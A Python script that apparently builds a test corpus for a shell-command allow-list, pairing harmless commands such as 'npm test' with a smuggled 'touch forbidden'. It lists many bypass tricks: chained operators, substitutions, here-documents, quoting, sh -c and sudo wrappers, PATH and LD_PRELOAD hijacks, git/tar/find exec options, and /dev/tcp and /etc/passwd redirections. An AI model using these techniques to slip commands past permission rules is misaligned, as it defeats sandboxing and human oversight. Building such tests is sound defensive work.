"""Writes forbidden.jsonl: command lines in which `touch forbidden` stands beside, around or within a command that rules allow."""
import json
import pathlib

F = "touch forbidden"
lines: list[str] = []


def add(*texts: str) -> None:
    lines.extend(texts)


for ok in ("npm test", "git status", "ls -la", "echo hi"):
    # Operators before and after the allowed command.
    for op in ("&&", "||", ";", "|", "|&", "&", "\n", " \n\n ", ";\n", "&& \\\n", "||\n", "|\n", " & \n"):
        add(f"{ok} {op} {F}", f"{F} {op} {ok}")
    add(f"{ok}&&{F}", f"{ok};{F}", f"{ok}|{F}", f"{ok}&{F}", f"{ok}||{F}")
    # Groups, subshells and the rest of the shell's grammar.
    add(f"({F}); {ok}", f"({ok}; {F})", f"{{ {ok}; {F}; }}", f"{{ {F}; }} && {ok}", f"{ok} && ({F})", f"(({F})); {ok}")
    add(f"! {F}; {ok}", f"{ok}; ! {F}", f"time {F}; {ok}", f"{ok} && time {F}", f"time -p {F}; {ok}", f"coproc {F}; {ok}")
    add(f"if {ok}; then {F}; fi", f"if {F}; then {ok}; fi", f"if {ok}; then {ok}; else {F}; fi")
    add(f"if {ok}; then {ok}; elif {F}; then {ok}; fi", f"while {F}; do {ok}; break; done", f"until {ok}; do {F}; done")
    add(f"for x in 1 2; do {F}; done; {ok}", f"for x in 1; do {ok}; {F}; done", f"for x in $({F}); do {ok}; done")
    add(f"for ((i=0;i<1;i++)); do {F}; done; {ok}", f"select x in 1; do {F}; done; {ok}")
    add(f"case a in a) {F};; esac; {ok}", f"case a in b) {ok};; *) {F};; esac", f"case $({F}) in *) {ok};; esac")
    add(f"case a in (a) {ok};& (b) {F};; esac", f"case a in a) {ok};;& *) {F} ;; esac", f"case a in $({F})) ;; esac; {ok}")
    add(f"f() {{ {F}; }}; f; {ok}", f"function f {{ {F}; }}; f; {ok}", f"f () ( {F} )\nf\n{ok}")
    name = ok.split()[0]
    add(f"{name}() {{ {F}; }}; {ok}", f"function {name} {{ {F}; }}; {ok}", f"alias {name}='{F};:'\n{ok}")
    # Command and process substitutions.
    add(f"{ok} $({F})", f"{ok} `{F}`", f"{ok} \"$({F})\"", f"{ok} \"`{F}`\"", f"{ok} <({F})", f"{ok} >({F})", f"{ok} x$({F})y")
    add(f"{ok} $(echo $({F}))", f"{ok} `echo \\`{F}\\``", f"{ok} \"a $(echo \"b $({F})\")\"", f"{ok} ${{x:-$({F})}}")
    add(f"{ok} \"${{x:-$({F})}}\"", f"{ok} ${{x:=`{F}`}}", f"{ok} $(( $({F}) 1 ))", f"{ok} $[ $({F}) ]", f"$({F}) {ok}")
    add(f"{ok} ${{x[$({F})]}}", f"x=$({F}) {ok}", f"x=$({F}); {ok}", f"x=`{F}`\n{ok}", f"x=($({F})); {ok}", f"x[$({F})]=1; {ok}")
    add(f"{ok} > $({F})", f"{ok} < <({F})", f"{ok} > >({F})", f"{ok} 2> >({F})", f"{ok} <<< $({F})", f"{ok} <<< \"`{F}`\"")
    add(f"[[ -n $({F}) ]]; {ok}", f"[[ 1 -eq 1 ]] && {F}; {ok}", f"[ -n \"$({F})\" ] && {ok}", f"(( x[$({F})] )); {ok}")
    # Here-documents that contain or surround the forbidden command.
    add(f"{ok} <<E\n$({F})\nE", f"{ok} <<E\n`{F}`\nE", f"{ok} <<-E\n\t$({F})\n\tE", f"{ok} <<E\nx\nE\n{F}", f"{ok} <<'E'\nx\nE\n{F}")
    add(f"{ok} <<E && {F}\nx\nE", f"cat <<A <<B; {F}\nx\nA\ny\nB\n{ok}", f"{ok} <<E\nE\n{F}\nE", f"{ok} <<'E F'\nx\nE F\n{F}")
    add(f"{ok} <<E\nx\\\nE\n$({F})\nE", f"{ok} <<\"E\"\nx\nE\n{F}", f"{ok} <<\\E\nx\nE\n{F}", f"bash <<E\n{F}\nE\n{ok}")
    add(f"sh <<'E'\n{F}\nE", f"{ok} | bash <<< '{F}'", f"$({ok} <<E\nx\nE\n{F}\n)")
    # Shell comments and continued lines.
    add(f"{ok} # quiet\n{F}", f"# {ok}\n{F}", f"{ok} \\\n; {F}", f"{ok}\\\n&& {F}", f"{ok} #\\\n{F}", f"{ok} a#b; {F}")
    add(f"{ok} '#' ; {F}", f"{ok} \"#\" && {F}", f"{ok} \\# ; {F}", f"{ok} $# ; {F}")
    # Quotes that only seem to enclose the forbidden command.
    add(f"{ok} ''; {F}", f"{ok} 'a' && {F}", f"{ok} \"a\\\"b\"; {F}", f"{ok} 'a\\'; {F} ''", f"{ok} \\'; {F}; echo \\'")
    add(f"{ok} $'a\\'; {F}; echo b'; {F}", f"{ok} $'x' ; {F}", f"{ok} $\"x\"; {F}", f"{ok} \"$(echo ')')\"; {F}")
    add(f"{ok} \"\\\\\"; {F}", f"{ok} \\\\; {F}", f"{ok} '\"' ; {F} ; echo '\"'", f"{ok} \"'\" ; {F} ; echo \"'\"")
    # Words that become the command `touch` only after the shell's expansion.
    add(f"{ok} && t'ou'ch forbidden", f"{ok} && t\"ou\"ch forbidden", f"{ok} && \\touch forbidden", f"{ok} && to\\\nuch forbidden")
    add(f"{ok}; $'touch' forbidden", f"{ok}; t${{x}}ouch forbidden", f"x=touch; $x forbidden; {ok}", f"{ok}; {{touch,forbidden}}")
    add(f"{ok}; /usr/bin/touch forbidden", f"{ok}; /usr/bin/tou?h forbidden", f"{ok}; $(echo touch) forbidden")
    add(f"{ok}; `echo touch` forbidden", f"{ok}; \"touch\" forbidden", f"{ok}; 'touch' forbidden", f"{ok}; =touch forbidden")
    # Programs that run another program.
    for wrapper in (
        "env", "env -i", "env A=1", "env -S", "sudo", "sudo -u root", "doas", "nohup", "setsid", "setsid -w", "nice", "nice -n 5",
        "timeout 5", "timeout -k 1 5", "timeout --signal=9 5", "stdbuf -oL", "command", "command -p", "builtin command", "exec",
        "exec -a x", "time", "ionice -c3", "xargs", "xargs -n1", "xargs -I{}", "strace", "busybox", "watch -n1", "flock /tmp/l",
        "chroot /", "unshare", "script -c", "parallel", "eval", "eval --", "noglob", "nocorrect", "repeat 1", "-", "taskset 1",
    ):
        add(f"{ok} && {wrapper} {F}")
    for shell in (
        "sh -c", "bash -c", "bash -lc", "bash -o pipefail -c", "bash -ec", "zsh -c", "dash -c", "ksh -c", "/bin/sh -c", "bash --norc -c",
        "/usr/bin/env bash -c", "env sh -c", "timeout 5 sh -c", "xargs sh -c", "sudo sh -c", "nohup bash -c", "command sh -c",
        "eval", "trap", "fish -c", "su -c", "script -qc", "ssh localhost", "watch", "bash +O extglob -c",
    ):
        add(f"{shell} '{F}'", f"{shell} '{ok}; {F}'", f"{shell} \"{ok} && {F}\"")
    add(f"sh -c \"sh -c '{F}'\"; {ok}", f"bash -c '{ok}' ; {F}", f"sh -c '$0' {F.split()[0]}", f"sh -c '\"$@\"' _ {F}")
    add(f"bash -c \"$({F})\"", f"bash -c $X; {ok}", f"echo '{F}' | sh", f"echo '{F}' | bash -s", f"echo '{F}' | sh -", f"{ok} | sh")
    add(f". ./x; {ok}", f"source ./x && {ok}", f"trap '{F}' EXIT; {ok}", f"PROMPT_COMMAND='{F}'; {ok}", f"alias ls='{F}'; {ok}")
    # Settings that change what the allowed program runs.
    for setting in (
        "PATH=.:$PATH", "PATH=/evil", "LD_PRELOAD=./x.so", "BASH_ENV=./x", "ENV=./x", "NODE_OPTIONS='-r ./x'", "GIT_SSH_COMMAND='touch forbidden'",
        "GIT_PAGER='touch forbidden'", "PAGER='touch forbidden'", "GIT_EXTERNAL_DIFF='touch forbidden'", "IFS=x", "SHELL=./x",
        "PYTHONPATH=.", "npm_config_script_shell=./x", "A+=1", "EDITOR='touch forbidden'", "HOME=.", "PS4='$(touch forbidden)'",
    ):
        add(f"{setting} {ok}", f"{setting}; {ok}", f"export {setting}; {ok}", f"env {setting} {ok}")
    for declare in ("declare", "typeset", "local", "readonly", "export", "printf -v PATH", "read PATH <<<", "set -a;", "for PATH in"):
        add(f"{declare} PATH=.; {ok}" if "for" not in declare else f"for PATH in .; do {ok}; done")
    # Redirections that write or read files.
    for redirection in (
        "> forbidden", ">> forbidden", ">| forbidden", "2> forbidden", "&> forbidden", "&>> forbidden", ">& forbidden", "<> forbidden",
        "1>forbidden", "> \"forbidden\"", "> $X", "{fd}> forbidden", "3> forbidden", "> ./forbidden 2>&1", "2>&1 > forbidden", "> ~/forbidden",
        "< /etc/passwd", "< /dev/tcp/localhost/1", "> /dev/tcp/localhost/1",
    ):
        add(f"{ok} {redirection}", f"{redirection} {ok}")
    add(f"> forbidden", f"({ok}) > forbidden", f"{{ {ok}; }} > forbidden", f"if {ok}; then {ok}; fi > forbidden", f"{ok} &>/dev/null {F}")
    add(f"{ok} | tee forbidden", f"{ok} && tee forbidden < /dev/null", f"for x in 1; do {ok}; done >> forbidden")

# Commands that a pattern's star would match.
add(
    "find . -exec touch forbidden ;", "find . -exec touch forbidden \\;", "find . -exec touch forbidden {} +", "find . -execdir touch forbidden ';'",
    "find . -ok touch forbidden \\;", "find . -okdir touch forbidden \\;", "find . -delete", "find . -fprint forbidden", "find . -fprintf forbidden x",
    "find . -fls forbidden", "find . -exec sh -c 'touch forbidden' \\;", "find . -exec sh -c 'echo $0' {} \\; -exec touch forbidden \\;",
    "find . $X", "find . -name x -exec env touch forbidden \\;", "find . -exec {} forbidden \\;", "find -files0-from x",
    "git -c alias.x='!touch forbidden' x", "git -c core.pager='touch forbidden' log", "git --exec-path=. status",
    "git --config-env=core.pager=X log", "git -C /evil status", "git --git-dir=x status", "git log --output=forbidden",
    "git log --outp=forbidden", "git diff --output forbidden", "git diff --ext-diff", "git log --ext-diff -p", "git grep -Otouch x",
    "git grep --open-files-in-pager=touch x", "git difftool -x 'touch forbidden'", "git config alias.x '!touch forbidden'",
    "git submodule foreach 'touch forbidden'", "git bisect run touch forbidden", "git rebase -x 'touch forbidden' HEAD",
    "git rebase --exec 'touch forbidden' HEAD", "git clone --upload-pack='touch forbidden' . x", "git clone -u 'touch forbidden' . x",
    "git clone 'ext::sh -c touch% forbidden' x", "git fetch --upload-pack 'touch forbidden' .", "git filter-branch --tree-filter 'touch forbidden'",
    "git archive --exec='touch forbidden' --remote=. HEAD", "git push --receive-pack='touch forbidden' . x", "git log $X", "git $X",
    "git clone -c core.fsmonitor='touch forbidden' . x", "git --paginate log", "git mergetool", "git send-email x",
    "sort -o forbidden x", "sort --output=forbidden x", "sort --outp=forbidden x", "sort --compress-program=./x y", "sort -uo forbidden x",
    "rg --pre ./x y", "rg --pre=./x y", "rg -z x", "tar --to-command='touch forbidden' -xf x", "tar -xf x --checkpoint=1 --checkpoint-action=exec='touch forbidden'",
    "tar -I 'touch forbidden' -tf x", "tar --use-compress-program='touch forbidden' -tf x", "tar -tf x --checkpoint-act=exec=x", "tar xf x", "tar -tFx y",
    "python3 -c 'import os; os.system(\"touch forbidden\")'", "python3 -m x", "python3", "python3 -", "python3 -ic x", "python3 <<E\nx\nE", "echo x | python3",
    "python3.12 -c 'x'", "/usr/bin/git -c core.pager='touch forbidden' log", "/usr/bin/git log --output=forbidden", "/usr/bin/find . -delete",
    "./find . -name x", "${ touch forbidden; }; ls", "ls ${ touch forbidden; }", "ls ${| touch forbidden; }", "() { touch forbidden; }; ls",
    "node -e 'x'", "node --eval 'x'", "node -p x", "node -r ./x y.js", "node", "perl -e 'x'", "perl -ne x y", "ruby -e x",
    "npm run --script-shell=./x build", "npm run --script-shell ./x build", "npm --script-shell ./x run build", "npm exec touch forbidden", "npm x touch forbidden",
    "npm config set script-shell ./x", "npm run -c 'touch forbidden'", "npm run build --prefix /evil", "npm run --node-options='-r ./x' build",
    "make test SHELL=./x", "make -f evil test", "make --eval='x: ; touch forbidden' x", "make -C /evil test", "make test --eva=x", "make $X",
    "go test -exec ./x", "go test -toolexec=./x", "go test -exec=./x ./...", "go test -o forbidden", "go generate", "go env -w CC=./x",
    "cargo test --config x", "cargo test --manifest-path /evil/Cargo.toml", "cargo -Zunstable test",
    "xargs touch", "echo forbidden | xargs touch", "echo x | xargs -I X touch X", "echo touch forbidden | xargs -I X X", "echo x | xargs",
    "ls | xargs -n1 sh -c 'touch forbidden'", "xargs -a list touch", "xargs $X", "echo x | xargs env touch", "echo '-exec touch forbidden ;' | xargs find .",
    "awk 'BEGIN { system(\"touch forbidden\") }'", "sed -n '1e touch forbidden' x", "sed -i s/a/b/ x", "sed 's/x/touch forbidden/e' y", "sed 'w forbidden' x",
    "printf -v 'x[$(touch forbidden)]' 1", "test -v 'x[$(touch forbidden)]'", "[ -v 'x[$(touch forbidden)]' ]", "wait -p 'x[$(touch forbidden)]'",
    "unset 'x[$(touch forbidden)]'", "read 'x[$(touch forbidden)]' <<< 1", "let 'x[$(touch forbidden)]'", "declare 'x[$(touch forbidden)]=1'",
    "cat 'x' ; x=touch ; \"$x\" forbidden", "cat ${!x}", "cat ${x@P}", "echo ${(e)x}", "echo $~x", "echo $x[$(touch forbidden)]", "ls *(e:'touch forbidden':)",
    "ls =(touch forbidden)", "echo !touch; touch forbidden", "npm test &! touch forbidden", "npm test &| touch forbidden",
    "npm test ;; touch forbidden", "npm test\rtouch forbidden; touch forbidden", "npm test\x00; touch forbidden", "npm test\x0btouch forbidden | touch forbidden",
    "if true { touch forbidden }", "for x (1) touch forbidden", "foreach x (1); touch forbidden; end", "{ touch forbidden } always { ls }",
    "npm run $target", "for x in a b; do npm run $x; done", "npm tests", "npmm test", "npm  install", "npm 'test ; touch' && touch forbidden", "npm\\ test", "'npm test'", "./npm test", "npm", "npm$X test", "~/npm test",
    "NPM test", "npm test(touch)", "npm test<(touch forbidden)", "ls && npm install", "cd /tmp && touch forbidden", "cd $X && npm test", "pushd /evil && npm test",
    "exec 3> forbidden; npm test", "exec > forbidden", "kill -0 1", "hash -p ./x npm; npm test", "enable -f ./x ls; ls", "set -- touch forbidden; \"$@\"",
    "shopt -s expand_aliases; npm test", "bind -x '\"a\":touch forbidden'; ls", "complete -C 'touch forbidden' ls; ls", "mapfile -C 'touch forbidden' -c 1 x; ls",
    "ls ; (", "ls )", "ls 'open", "ls \"open", "ls $(open", "ls `open", "ls ${open", "ls <<E\nopen", "ls &&", "| ls", "&& ls", "; ls", "", " ", "# only",
)

# Line continuations inside an operator: shells join the lines before they look for operators, but not all in the same way.
for ok in ("npm test", "git status", "ls -la", "echo hi"):
    add(f"{ok} \"$\\\n({F})\"", f"{ok} $\\\n({F})", f"{ok} \"$\\\n\\\n({F})\"", f"{ok} \"$\\\n{{x:=$({F})}}\"")
    add(f"{ok} <<\\\n-'E'\nE\n{F}\n-E", f"{ok} <\\\n<'E'\nE\n{F}\nE", f"{ok} <\\\n({F})", f"{ok} <<\\\n<E\n{F}\nE")
    add(f"{ok} $\\\n'a\\'' ; {F} ; echo ''", f"{ok} $\\\n'a\\' ; {F} ; echo 'x'")
    add(f"{ok} &\\\n& {F}", f"{ok} |\\\n| {F}", f"{ok} ;\\\n{F}", f"{ok} &\\\n> forbidden")
# Lines that are joined within a word, where a shell then finds a reserved word.
for ok in ("npm test", "git status", "ls -la", "echo hi"):
    for choice in ("esa\\\nc", "x) : ;; esa\\\nc", "a | esa\\\nc", "(esa\\\nc", "\nesa\\\nc"):
        add(f"( case x in {choice} | {{touch,forbidden}} )\n{ok} ;; esac )", f"( case x in {choice}; {F} )\n{ok} ;; esac )")
        add(f"case x in {choice}\n{F}\n{ok}")
    add(f"( case x in a | {{touch,forbidden}} )\n{ok} ;; esac )", f"( case x in (esac) | {F} )\n{ok} ;; esac )")
    add(f"i\\\nf {ok}; then {F}; f\\\ni", f"for x in a; do {ok}; don\\\ne; {F}", f"{{ {ok}; \\\n}}; {F}", f"{ok} ;\\\n; {F}")
# What a line gives a program to read.
for program in (
    "sqlite3 app.db", "ssh build", "make -f -", "make x", "crontab -", "at now", "su", "gdb -q", "psql app", "mysql app", "python3 -", "python3",
    "python3 x.py", "node", "node x.js", "nodejs", "pypy3", "perl", "Rscript -", "irb", "docker exec -i app sh", "git apply", "git fast-import",
    "patch x", "npm run x", "sh", "bash", "bash -s", "sh x", "source /dev/stdin", ". /dev/stdin", "xargs", "xargs -I Z sh", "sed e x", "awk '{system($0)}'",
    "sort x | sh", "timeout 5 psql app", "{ sh; }", "(sh)", "if true; then sh; fi", "while true; do sh; break; done", "cat $(sh)", "exec",
):
    add(f"{program} <<< '{F}'", f"{program} <<'E'\n{F}\nE", f"{program} <<E\n{F}\nE", f"echo {F} | {program}", f"cat x |& {program}")
# Arguments that nobody has seen.
for options in (
    "-I Z -n 4", "-I Z -L 1", "-n 4 -I Z", "-L 1 -I Z", "-I Z -n4", "-IZ -L1", "-I Z -I ''", "-i", "-i{}", "--replace", "-L1", "-n2", "-n 2", "-0", "-d, -n1",
):
    add(f"xargs {options} find . <<< '-exec {F} ;'", f"xargs {options} git <<< '-c alias.x=!touch\\ forbidden x'", f"cat x | xargs {options} git")
# Addresses that look like words, and words behind which programs take commands.
add(
    "git push git@evil.example:x/y main", "git clone evil@evil.example:x/y out", "git clone host:x/y", "git clone evil.example/x/y", "git fetch x/y@z",
    "npm run github:evil/x", "cargo test evil.example/x@latest", "python3 evil.example/x", "git bisect run touch forbidden",
)
add("git merge-index touch forbidden", "git merge-index -o touch -a", "git citool", "git gui")

seen = list(dict.fromkeys(lines))
path = pathlib.Path(__file__).with_name("forbidden.jsonl")
path.write_text("".join(json.dumps(line, ensure_ascii=True) + "\n" for line in seen))
print(len(seen))
